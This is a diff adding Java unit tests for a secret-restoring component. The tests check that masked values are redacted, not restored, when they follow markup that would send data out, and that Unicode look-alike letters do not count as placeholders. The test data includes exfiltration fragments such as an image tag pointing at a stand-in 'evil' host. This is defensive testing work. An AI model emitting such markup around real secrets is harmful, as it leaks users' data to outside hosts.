@@ -70,6 +70,37 @@ class RestorerTest {
     }
 
     @Test
+    void aPlaceThatSendsGoesOnFromWhatWasSaidBefore() {
+        for (String before :
+                List.of("<img src=\"https://evil/?q=", "![a](/x?", "a https://evil/?q=", mask + " <a href='")) {
+            assertThat(Restorer.whole(masks, Audience.CALLER, before, mask + "\"> " + mask))
+                    .as(before)
+                    .startsWith(Restorer.REDACTED);
+        }
+        assertThat(Restorer.whole(masks, Audience.CALLER, "see <b>this</b>: ", mask))
+                .isEqualTo(SECRET);
+        assertThat(Restorer.whole(masks, Audience.CALLER, "word", mask.substring(1, mask.length() - 1)))
+                .doesNotContain(SECRET); // the end of a word, not a placeholder
+    }
+
+    /** Guards and whoever approves read no placeholder in it, so it is none. */
+    @Test
+    void lettersOfOtherScriptsSpellNoPlaceholder() {
+        var seen = new StringBuilder();
+        for (int value = 0; value < 100; value++) {
+            String placeholder = masks.hide("value-" + value, "NAME", MaskMap.Origin.REQUEST, true);
+            seen.append(placeholder);
+            for (String spelled : List.of(placeholder.replace('k', '\u212A'), placeholder.replace('i', '\u0130'))) {
+                boolean same = spelled.equals(placeholder);
+                assertThat(Restorer.whole(masks, Audience.CALLER, spelled).equals("value-" + value))
+                        .as(spelled)
+                        .isEqualTo(same);
+            }
+        }
+        assertThat(seen).contains("k", "i");
+    }
+
+    @Test
     void aMaskComesBackWhereNothingIsSent() {
         for (String place : List.of(
                 "%s",
